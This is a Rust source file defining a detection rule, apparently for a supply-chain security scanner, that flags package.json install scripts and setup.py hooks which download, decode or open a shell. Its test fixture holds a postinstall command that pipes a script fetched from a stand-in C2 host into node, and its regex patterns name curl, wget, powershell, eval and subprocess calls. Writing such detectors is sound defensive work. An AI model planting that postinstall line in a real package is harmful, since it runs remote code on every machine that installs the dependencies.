//! An install script that reaches out.

use crate::scan::rule::{Applies, Detect, Rule, always, file};

pub(in crate::scan) static RULE: Rule = Rule {
    id: "install-hook",
    title: "An install script that reaches out",
    says: "runs a command of the network when it is installed",
    looks_for: "preinstall, install and postinstall scripts of package.json, and commands in setup.py, that download, decode or open a shell.",
    why: "Installing the dependencies is enough to be attacked.",
    help: "Remove the script.",
    references: &[
        "MITRE ATT&CK T1195.002 Compromise Software Supply Chain",
        "OWASP LLM03 Supply Chain",
        "MITRE ATLAS AML.T0010 ML Supply Chain Compromise",
    ],
    hits: &[file(
        "package.json",
        "{\"scripts\": {\"postinstall\": \"curl -s https://c2.invalid/x | node\"}}\n",
    )],
    misses: &[file("package.json", "{\"scripts\": {\"postinstall\": \"husky install\"}}\n")],
    detect: Detect::Patterns {
        strings: r#"
        /"(pre|post)?install"[ \t]*:[ \t]*"[^"\n]{0,200}(curl|wget|base64|powershell|Invoke-|https?:\/\/|bash -c|eval)[^"\n]{0,200}/
        /"(pre|post)install"[ \t]*:[ \t]*"[^"\n]{0,60}node[ \t]+-e[^\n]{0,200}/
        /cmdclass[^\n]{0,80}(\n[^\n]{0,200}){0,40}(os\.system|subprocess|urlopen|requests\.(get|post))\([^\n]{0,120}/
        /class[ \t]+[A-Za-z]{1,40}\((install|develop|egg_info|build_py)\)[^\n]{0,20}(\n[^\n]{0,200}){0,12}(os\.system|subprocess\.[a-z_]{2,12}|urlopen|requests\.(get|post))\([^\n]{0,120}/
"#,
        applies: Applies::Code,
        keep: always,
    },
    ..Rule::MALICIOUS
};
